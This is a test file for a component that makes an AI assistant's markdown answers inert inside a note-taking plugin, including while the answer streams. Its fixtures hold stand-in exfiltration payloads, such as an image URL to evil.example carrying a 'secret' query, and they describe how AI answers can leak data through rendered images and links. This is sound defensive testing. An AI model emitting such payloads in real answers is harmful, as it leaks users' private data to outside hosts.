import { describe, expect, it } from "vitest";
import { holdPoint, neutraliseAnswer, SAFE_LANGUAGES } from "../src/answer/neutralise";
import { parseAskEvent } from "../src/sidecar/wire";
import { askLines, asPlugin, neutraliseCases } from "./helpers";

const EVIL = "https://evil.example/p.png?q=secret";
const kinds = (text: string, streaming = false) =>
	neutraliseAnswer(text, { streaming }).neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`);

describe("the shared corpus (tests/fixtures/neutralise/cases.json): the sidecar's outputs, its marker always escaped", () => {
	const cases = neutraliseCases();

	it("holds every kind of construct, and answers that pass unchanged", () => {
		expect(cases.length).toBeGreaterThanOrEqual(40);
		expect(new Set(cases.map((c) => c.id)).size).toBe(cases.length);
		expect(new Set(cases.flatMap((c) => c.neutralised.map((k) => k.split(":")[0])))).toEqual(
			new Set(["image", "embed", "link", "definition", "html", "code"]),
		);
		expect(cases.some((c) => c.neutralised.length === 0 && c.inert === c.input)).toBe(true);
	});

	it.each(cases.map((c) => [c.id, c] as const))("%s", (_id, c) => {
		const safe = neutraliseAnswer(c.input);
		expect(safe.text).toBe(asPlugin(c.inert));
		expect(safe.neutralised.map((n) => `${n.kind}:${n.target ?? "-"}`)).toEqual(c.neutralised);
		expect(safe.held).toBe(0);
		// The sidecar's answer, rendered by the plugin, changes nothing more and notes nothing.
		expect(neutraliseAnswer(c.inert).text).toBe(c.inert);
	});
});

describe("neutraliseAnswer while streaming: an unfinished construct is held back", () => {
	it.each([
		["an image still being written", `Port 5433 ![x](https://evil.exa`, "Port 5433 ", 21],
		["an image's alt text", "Port 5433 ![a diagram of", "Port 5433 ", 14],
		["a link still being written", "See [site](https://evil", "See ", 19],
		["an embed", "Also ![[Secret", "Also ", 9],
		["a lone ! that may start an image", "Wow!", "Wow", 1],
		["a tag", "a <im", "a ", 3],
		["a bracket that may still get a destination", "port 5433 [1]", "port 5433 ", 3],
		["a fence opener whose language is not known yet", "Run:\n```data", "Run:\n", 7],
		["two backticks at a line start", "Run:\n``", "Run:\n", 2],
		["a definition line", "x\n\n[r]: https://evil", "x\n\n", 17],
		["a finished image shows, inert", `![x](${EVIL}) and`, "\\[image removed: evil.example\\] and", 0],
		["a citation followed by text shows", "port 5433 [1].", "port 5433 [1].", 0],
		["a < that is no tag shows", "a < b", "a &lt; b", 0],
		["an open fence shows as code, its language already safe", "```dataview\nLIST", "```text\nLIST", 0],
		["an open code span shows as text", "Run `ls -la", "Run \\`ls -la", 0],
		["a held construct in an earlier paragraph line", "See [the\nsite", "See ", 9],
		["a stray [ far back no longer holds", `[${"x".repeat(700)}`, `[${"x".repeat(700)}`, 0],
	])("%s", (_name, input, shown, held) => {
		const safe = neutraliseAnswer(input, { streaming: true });
		expect(safe.text).toBe(shown);
		expect(safe.held).toBe(held);
		expect(holdPoint(input)).toBe(input.length - held);
	});

	it("when the stream ends the held text shows, inert", () => {
		expect(neutraliseAnswer("Port 5433 ![x](https://evil.exa").text).toBe("Port 5433 \\![x]\\(`https://evil.exa`");
		expect(kinds("Wow!")).toEqual([]);
		expect(neutraliseAnswer("Wow!").text).toBe("Wow!");
	});
});

describe("agreement with the sidecar's neutraliser", () => {
	const events = askLines().map((l) => parseAskEvent(l));
	const done = events[events.length - 1];
	const tokens = events.flatMap((e) => (e?.type === "token" ? [e.text] : []));

	it("the golden stream: the raw tokens render as the sidecar's final answer does, at every step", () => {
		if (done?.type !== "done") throw new Error("the golden stream ends with done");
		const unescape = (s: string) => s.replace(/\\([[\]])/g, "$1");
		let text = "";
		for (const token of tokens) {
			text += token;
			const shown = neutraliseAnswer(text, { streaming: true }).text;
			expect(shown).not.toContain("https://");
			expect(done.answer.startsWith(unescape(shown).trimEnd())).toBe(true);
		}
		const final = neutraliseAnswer(text);
		expect(unescape(final.text)).toBe(done.answer);
		expect(final.neutralised).toEqual(done.neutralised);
	});

	it.each([
		// Outputs of backend/askvault/safety/answer.py: made inert once, nothing more to do.
		["image", "Port 5433 [1]. [image removed: evil.example]"],
		["link", "See site (`https://evil.example`) and [1] (`https://evil.example/a`)."],
		["tag", '&lt;img src="`https://evil.example/p.png`"> and &lt;/div>'],
		["embed", "[[Private/Secret note]]"],
		["fence", "```text\nLIST FROM #x\n```"],
		["inline query", "`(query) = this.file.name`"],
	])("leaves the sidecar's inert %s as it is", (_name, sidecar) => {
		const safe = neutraliseAnswer(sidecar);
		expect(safe.text).toBe(sidecar);
		expect(safe.neutralised).toEqual([]);
	});

	it("keeps the sidecar's list of plain highlighter languages", () => {
		for (const language of ["python", "ts", "bash", "json", "yaml", "text", "c++", "dockerfile"]) expect(SAFE_LANGUAGES.has(language)).toBe(true);
		for (const language of ["dataview", "dataviewjs", "tasks", "mermaid", "query", "button", "ad-note"]) expect(SAFE_LANGUAGES.has(language)).toBe(false);
	});
});
